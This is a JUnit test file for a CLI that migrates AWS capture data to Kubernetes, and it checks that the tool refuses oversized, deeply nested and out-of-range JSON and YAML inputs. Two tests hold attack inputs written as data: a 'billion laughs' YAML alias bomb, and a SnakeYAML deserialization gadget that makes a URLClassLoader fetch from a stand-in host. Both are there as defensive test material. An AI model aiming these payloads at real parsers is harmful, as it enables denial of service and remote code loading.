package io.canary2k8s.cli;

import io.canary2k8s.input.Json;
import io.canary2k8s.yaml.Yaml;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/**
 * The input limits (SECURITY.md): oversized files, deep nesting, huge numbers and YAML's anchors,
 * aliases and merge keys are each refused with exit 2 and one line naming the file (and the field,
 * where there is one), before anything is written.
 */
class InputLimitsTest extends Rejections {

  /** A file that claims {@code bytes} bytes without using the disk (sparse). */
  static void sparse(Path file, long bytes) throws IOException {
    try (RandomAccessFile f = new RandomAccessFile(file.toFile(), "rw")) {
      f.setLength(bytes);
    }
  }

  Path config(String yaml) throws IOException {
    Path cfg = tmp.resolve("canary2k8s.yaml");
    Files.writeString(cfg, yaml);
    return cfg;
  }

  // ---- JSON capture files --------------------------------------------------------------------

  @Test
  void hugeJsonFile() throws IOException {
    Path c = capture();
    sparse(c.resolve("elb/describe-load-balancers.json"), Json.MAX_INPUT_BYTES + 1);
    assertRejected(
        migrate(c),
        "elb/describe-load-balancers.json",
        "over the limit of " + Json.MAX_INPUT_BYTES);
  }

  @Test
  void deeplyNestedJson() throws IOException {
    Path c = capture();
    Files.writeString(
        c.resolve("autoscaling/describe-policies.json"),
        "{\"ScalingPolicies\": " + "[".repeat(10_000) + "]".repeat(10_000) + "}");
    assertRejected(
        migrate(c), "autoscaling/describe-policies.json", "not valid JSON", "nesting depth");
  }

  @Test
  void hugeJsonNumber() throws IOException {
    Path c = capture();
    Path f = c.resolve("autoscaling/describe-auto-scaling-groups.json");
    Files.writeString(
        f,
        Files.readString(f)
            .replace("\"DesiredCapacity\": 9,", "\"DesiredCapacity\": " + "9".repeat(5000) + ","));
    assertRejected(
        migrate(c),
        "autoscaling/describe-auto-scaling-groups.json",
        "not valid JSON",
        "Number value length");
  }

  @Test
  void wholeNumberBeyondLong() throws IOException {
    Path c = capture();
    Path f = c.resolve("autoscaling/describe-auto-scaling-groups.json");
    Files.writeString(
        f,
        Files.readString(f)
            .replace("\"DesiredCapacity\": 9,", "\"DesiredCapacity\": 99999999999999999999999,"));
    assertRejected(migrate(c), "AutoScalingGroups[0].DesiredCapacity", "expected a whole number");
  }

  @Test
  void fractionWhereAWholeNumberBelongs() throws IOException {
    Path c = capture();
    Path f = c.resolve("autoscaling/describe-auto-scaling-groups.json");
    Files.writeString(
        f, Files.readString(f).replace("\"DesiredCapacity\": 9,", "\"DesiredCapacity\": 9e99,"));
    assertRejected(migrate(c), "AutoScalingGroups[0].DesiredCapacity", "expected a whole number");
  }

  @Test
  void recordWeightOutOfRange() throws IOException {
    Path c = capture();
    Path f = c.resolve("route53/zones/Z0417932KX4V6BZ2M5QGH.json");
    Files.writeString(
        f,
        Files.readString(f)
            .replace("\"TTL\": 60,", "\"TTL\": 60, \"SetIdentifier\": \"a\", \"Weight\": 256,"));
    assertRejected(migrate(c), "ResourceRecordSets[2].Weight", "out of range 0..255");
  }

  @Test
  void portOutOfRange() throws IOException {
    Path c = capture();
    Path f = c.resolve("elb/describe-load-balancers.json");
    Files.writeString(
        f, Files.readString(f).replaceFirst("\"InstancePort\": 8080", "\"InstancePort\": 65536"));
    assertRejected(
        migrate(c),
        "LoadBalancerDescriptions[0].ListenerDescriptions[0].Listener.InstancePort",
        "out of range 1..65535");
  }

  @Test
  void capacityWeightBeyondAnyInstance() throws IOException {
    Path c = capture();
    Path f = c.resolve("autoscaling/describe-auto-scaling-groups.json");
    Files.writeString(
        f,
        Files.readString(f)
            .replaceFirst(
                "\"InstanceId\": \"i-0a000000000000001\",",
                "\"InstanceId\": \"i-0a000000000000001\", \"WeightedCapacity\": \"99999999999\","));
    assertRejected(
        migrate(c),
        "AutoScalingGroups[0].Instances[0].WeightedCapacity",
        "not a whole number of capacity units from 1 to 1000000000");
  }

  @Test
  void geoproximityBiasOutOfRange() throws IOException {
    Path c = capture();
    Path f = c.resolve("route53/zones/Z0417932KX4V6BZ2M5QGH.json");
    Files.writeString(
        f,
        Files.readString(f)
            .replaceFirst(
                "\"TTL\": 60,",
                "\"TTL\": 60, \"SetIdentifier\": \"near\", \"GeoProximityLocation\":"
                    + " {\"AWSRegion\": \"ap-south-1\", \"Bias\": 100},"));
    assertRejected(
        migrate(c), "ResourceRecordSets[2].GeoProximityLocation.Bias", "out of range -99..99");
  }

  // ---- the YAML config -----------------------------------------------------------------------

  @Test
  void hugeConfigFile() throws IOException {
    Path cfg = tmp.resolve("canary2k8s.yaml");
    sparse(cfg, Yaml.MAX_INPUT_CHARS + 1L);
    assertRejected(
        migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml", "over the limit");
  }

  @Test
  void deeplyNestedConfig() throws IOException {
    Path cfg = config("apps: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");
    assertRejected(
        migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml", "not valid YAML");
  }

  @Test
  void hugeNumberInConfig() throws IOException {
    Path cfg = config("edge:\n  webNodePort: " + "9".repeat(40) + "\n");
    assertRejected(
        migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml", "edge.webNodePort");
  }

  @Test
  void nodePortOutOfRangeInConfig() throws IOException {
    Path cfg = config("edge:\n  webNodePort: 80\n");
    assertRejected(
        migrate(capture(), "--config", cfg.toString()),
        "canary2k8s.yaml",
        "edge.webNodePort",
        "30000..32767");
  }

  @Test
  void mergeKeyInConfig() throws IOException {
    Path cfg = config("apps:\n  myapp:\n    <<: {image: x/y:1}\n");
    assertRejected(
        migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml", "line 3", "merge keys");
  }

  @Test
  void billionLaughsInConfig() throws IOException {
    StringBuilder y =
        new StringBuilder(
            "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'i'; c++) {
      char p = (char) (c - 1);
      y.append(c)
          .append(": &")
          .append(c)
          .append(" [*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append("]\n");
    }
    Path cfg = config(y.toString());
    assertRejected(
        migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml", "line 1", "anchors");
  }

  @Test
  void globalTagInConfig() throws IOException {
    Path cfg =
        config(
            "apps: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.invalid/\"]]]]\n");
    assertRejected(migrate(capture(), "--config", cfg.toString()), "canary2k8s.yaml");
  }
}
